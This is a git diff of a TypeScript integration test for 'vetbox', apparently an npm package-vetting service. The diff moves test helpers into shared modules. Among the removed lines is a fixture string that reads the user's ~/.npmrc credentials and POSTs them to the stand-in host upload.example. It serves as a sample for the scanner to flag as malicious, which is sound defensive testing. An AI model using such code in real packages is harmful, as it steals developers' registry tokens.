@@ -1,19 +1,17 @@
 // `vetbox analyze` and `vetbox diff` against a server: the real app (multipart upload, SSE events,
 // report and diff routes) with an in-process worker running the real @vetbox/pipeline in Docker.
-import { spawn } from 'node:child_process';
 import type { Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
-import { gzipSync } from 'node:zlib';
-import tar from 'tar-stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Report } from '@vetbox/contracts';
 import { createLogger } from '@vetbox/config';
 import { createAnalyzer, ANALYZER_VERSION } from '@vetbox/pipeline';
 import { ApiHarness } from '../fixtures/api/harness.js';
-import { REPO_ROOT } from '../helpers/processes.js';
+import { runVetbox } from '../helpers/cli.js';
+import { NPMRC_POST, writeNpmArchive } from '../fixtures/pipeline/imitation.js';
 
 let api: ApiHarness;
 let server: Server;
@@ -35,45 +33,10 @@ afterAll(async () => {
   if (work) await rm(work, { recursive: true, force: true });
 });
 
-function vetbox(args: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
-  return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, [path.join(REPO_ROOT, 'cli', 'dist', 'main.js'), ...args], {
-      cwd: REPO_ROOT,
-      env: { ...process.env, VETBOX_API_KEY: api.keys.submit, ...env },
-      stdio: ['ignore', 'pipe', 'pipe'],
-    });
-    let stdout = '';
-    let stderr = '';
-    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
-    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
-    child.on('error', reject);
-    child.on('close', (code) => resolve({ code, stdout, stderr }));
-  });
-}
+const vetbox = (args: string[], env: NodeJS.ProcessEnv = {}) => runVetbox(args, { env: { VETBOX_API_KEY: api.keys.submit, ...env } });
 
-async function npmTgz(name: string, version: string, scripts: Record<string, string>, files: Record<string, string>): Promise<string> {
-  const pack = tar.pack();
-  const chunks: Buffer[] = [];
-  pack.on('data', (c: unknown) => chunks.push(c as Buffer));
-  const done = new Promise<void>((resolve, reject) => pack.on('end', resolve).on('error', reject));
-  pack.entry({ name: 'package/package.json', mode: 0o644 }, JSON.stringify({ name, version, main: 'index.js', scripts }, null, 2));
-  pack.entry({ name: 'package/index.js', mode: 0o644 }, 'module.exports = 1;\n');
-  for (const [file, content] of Object.entries(files)) pack.entry({ name: `package/${file}`, mode: 0o644 }, content);
-  pack.finalize();
-  await done;
-  const out = path.join(work, `${name}-${version}.tgz`);
-  await writeFile(out, gzipSync(Buffer.concat(chunks)));
-  return out;
-}
-
-const NPMRC_POST = `
-const http = require('http'), fs = require('fs'), os = require('os');
-let data = '';
-try { data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
-const req = http.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => res.resume());
-req.on('error', () => {});
-req.end(data);
-`;
+const npmTgz = (name: string, version: string, scripts: Record<string, string>, files: Record<string, string>): Promise<string> =>
+  writeNpmArchive(work, { name, version, scripts, files: { 'index.js': 'module.exports = 1;\n', ...files } });
 
 describe('vetbox analyze --server', () => {
   it('uploads an archive, follows the events, prints the stored report; exit 2 for malicious', async () => {
